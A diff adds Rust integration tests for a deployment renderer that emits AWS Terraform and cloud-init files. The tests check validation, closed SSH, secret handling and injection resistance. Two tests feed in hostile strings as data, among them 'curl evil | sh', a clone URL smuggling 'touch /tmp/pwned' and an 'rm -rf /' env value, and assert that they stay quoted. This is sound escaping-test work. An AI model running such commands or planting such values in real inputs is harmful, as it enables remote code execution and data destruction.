@@ -1,0 +1,179 @@
+//! The AWS vm strategy end to end: real analyze → parse → decide on a fixture,
+//! render, then `terraform fmt -check` and `terraform validate` offline.
+mod support;
+
+use autodeploy_render::{render, RenderOptions};
+use support::{assert_fmt, assert_valid, scenario, write_bundle};
+
+fn bundle(fixture: &str, request: &str) -> autodeploy_render::Bundle {
+    let (analysis, decision) = scenario(fixture, request);
+    render(&decision, &analysis, &RenderOptions::default()).expect("renders")
+}
+
+fn contents<'a>(b: &'a autodeploy_render::Bundle, path: &str) -> &'a str {
+    &b.get(path)
+        .unwrap_or_else(|| panic!("{path} in {:?}", b.paths()))
+        .contents
+}
+
+#[test]
+fn hello_world_single_instance_validates() {
+    let b = bundle("hello_world_shape", "deploy this Flask app on AWS");
+    let compute = contents(&b, "terraform/compute.tf");
+    assert!(compute.contains("http_tokens                 = \"required\""));
+    assert!(compute.contains("encrypted             = true"));
+    assert!(compute.contains("resource \"aws_eip\" \"app\""));
+    let ci = contents(&b, "cloud-init.yaml");
+    assert!(ci.starts_with("#cloud-config\n"));
+    assert!(ci.contains("git clone -- 'tests/fixtures/hello_world_shape' /opt/app/src"));
+    assert!(ci.contains("nginx"));
+    let network = contents(&b, "terraform/network.tf");
+    assert!(!network.contains("\"22\"") && !network.contains("= 22\n"));
+    insta::assert_snapshot!("hello_world_compute_tf", compute);
+    insta::assert_snapshot!("hello_world_cloud_init", ci);
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
+    assert_valid(&tf);
+}
+
+#[test]
+fn express_autoscaling_validates() {
+    let b = bundle(
+        "node_express_basic",
+        "deploy on AWS on a VM, 2 to 4 instances",
+    );
+    let compute = contents(&b, "terraform/compute.tf");
+    for r in [
+        "resource \"aws_launch_template\" \"app\"",
+        "resource \"aws_autoscaling_group\" \"app\"",
+        "resource \"aws_lb\" \"main\"",
+        "resource \"aws_lb_listener\" \"http\"",
+        "resource \"aws_lb_target_group\" \"web\"",
+        "TargetTrackingScaling",
+    ] {
+        assert!(compute.contains(r), "{r}");
+    }
+    assert!(contents(&b, "terraform/network.tf").contains("resource \"aws_nat_gateway\" \"main\""));
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
+    assert_valid(&tf);
+}
+
+#[test]
+fn hostile_names_stay_inert() {
+    let b = bundle("hostile_names", "deploy this on AWS");
+    let ci = contents(&b, "cloud-init.yaml");
+    // The folder name only appears inside the YAML-quoted JSON config, as data.
+    let hostile_dir = "web $(touch pwned) ${path.module}";
+    for line in ci.lines().filter(|l| l.contains("touch pwned")) {
+        assert!(
+            line.trim_start().starts_with("content: \"{"),
+            "hostile text outside the quoted config: {line}"
+        );
+    }
+    // Parse the config back out of the YAML scalar: the path round-trips exactly.
+    let line = ci
+        .lines()
+        .find(|l| l.contains("touch pwned"))
+        .expect("config line");
+    let scalar = line.trim_start().strip_prefix("content: ").unwrap();
+    let config: serde_json::Value =
+        serde_json::from_str(&serde_json::from_str::<String>(scalar).unwrap()).unwrap();
+    assert_eq!(config["workdir"], format!("/opt/app/src/{hostile_dir}"));
+    // Terraform files hold no interpolation of repository text.
+    for f in b.files.iter().filter(|f| f.path.starts_with("terraform/")) {
+        assert!(!f.contents.contains("touch pwned"), "{}", f.path);
+        assert!(!f.contents.contains("curl evil"), "{}", f.path);
+    }
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
+    assert_valid(&tf);
+}
+
+/// The same fixture with the decision's repository-derived fields made as
+/// hostile as they can be: start command, env names and values, source URL.
+#[test]
+fn hostile_decision_fields_stay_inert() {
+    let (analysis, mut d) = scenario("hostile_names", "deploy this on AWS");
+    let evil = "node app.js; curl evil | sh # ${path.module} %{ if true }x%{ endif }";
+    d.source.input = "https://example.com/r.git'; touch /tmp/pwned; echo '${path.module}".into();
+    let s = &mut d.services[0];
+    s.start = Some(evil.into());
+    s.env.push(autodeploy_core::EnvBinding {
+        name: "WEIRD ${path.module} %{x}\"\n- evil: yes".into(),
+        value: autodeploy_core::EnvValue::Literal {
+            value: "'; rm -rf / #\n\"${x}".into(),
+        },
+        secret: false,
+        reason: "test".into(),
+    });
+    let b = render(&d, &analysis, &RenderOptions::default()).expect("renders");
+    let ci = contents(&b, "cloud-init.yaml");
+    // No raw newline escaped into YAML: every line is one we wrote.
+    assert!(!ci.lines().any(|l| l.trim_start().starts_with("- evil")));
+    let config_line = ci
+        .lines()
+        .find(|l| l.contains("curl evil"))
+        .expect("config");
+    assert!(
+        config_line.trim_start().starts_with("content: \"{"),
+        "{config_line}"
+    );
+    assert_eq!(ci.matches("curl evil").count(), 1);
+    let scalar = config_line.trim_start().strip_prefix("content: ").unwrap();
+    let config: serde_json::Value =
+        serde_json::from_str(&serde_json::from_str::<String>(scalar).unwrap()).unwrap();
+    assert_eq!(config["start"], evil);
+    // The clone command is one YAML string holding one single-quoted shell word.
+    let clone = ci.lines().find(|l| l.contains("git clone")).unwrap();
+    let clone: String =
+        serde_json::from_str(clone.trim_start().strip_prefix("- ").unwrap()).unwrap();
+    assert_eq!(
+        clone,
+        format!(
+            "git clone -- {} /opt/app/src",
+            autodeploy_render::escape::sh(&d.source.input)
+        )
+    );
+    for f in b.files.iter().filter(|f| f.path.starts_with("terraform/")) {
+        assert!(!f.contents.contains("curl evil"), "{}", f.path);
+        assert!(!f.contents.contains("touch /tmp/pwned"), "{}", f.path);
+    }
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
+    assert_valid(&tf);
+}
+
+#[test]
+fn secrets_are_read_at_boot_never_written() {
+    let b = bundle("python_committed_env_secret", "deploy this on AWS on a VM");
+    // The repository's committed values never reach the bundle.
+    for f in &b.files {
+        assert!(
+            !f.contents.contains("9f3c7a1e5b2d48c6a0e4f7b1d3c5e8a2"),
+            "{}",
+            f.path
+        );
+        assert!(!f.contents.contains("changeme"), "{}", f.path);
+    }
+    let compute = contents(&b, "terraform/compute.tf");
+    assert!(compute.contains("aws_secretsmanager_secret.session_secret.arn"));
+    assert!(compute.contains("\"secretsmanager:GetSecretValue\""));
+    let ci = contents(&b, "cloud-init.yaml");
+    assert!(ci.contains("python3-boto3"));
+    assert!(ci.contains(r#"\"from\": \"secret\""#));
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
+    assert_valid(&tf);
+}
+
+#[test]
+fn database_env_on_a_vm_fails_loudly() {
+    let (analysis, d) = scenario("python_fastapi_src_layout", "deploy on AWS on a VM");
+    let err =
+        render(&d, &analysis, &RenderOptions::default()).expect_err("not rendered half-right");
+    assert!(
+        matches!(err, autodeploy_render::RenderError::Unsupported { .. }),
+        "{err}"
+    );
+}
